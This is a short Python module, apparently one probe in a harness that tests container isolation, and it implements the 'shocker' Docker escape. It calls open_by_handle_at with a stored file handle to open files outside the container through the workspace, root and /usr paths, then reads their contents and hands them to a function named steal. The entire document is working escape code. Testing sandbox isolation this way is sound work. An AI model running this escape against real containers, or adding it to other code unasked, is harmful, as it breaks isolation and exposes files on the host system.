# Opens a file outside by its number in the file system, which goes past all names and mounts.
# Why: it is how programs left Docker containers in 2014 (shocker); one capability is enough.
# needs: any
# at-none: escapes as root where facts.handle
import ctypes
import os
from attempt import facts, run, steal, syscall

WAYS = {'workspace': '.', 'root': '/', 'usr': '/usr'}


def through(name, path):
    def open_by_number():
        if not facts['handle']:
            raise OSError('the file system has no such numbers')
        handle = ctypes.create_string_buffer(bytes.fromhex(facts['handle']))
        file = syscall('open_by_handle_at', os.open(path, os.O_RDONLY), handle, os.O_RDONLY)
        steal(os.read(file, 1000), 'the file')

    open_by_number.__name__ = name
    return open_by_number


run(*[through(*way) for way in WAYS.items()])
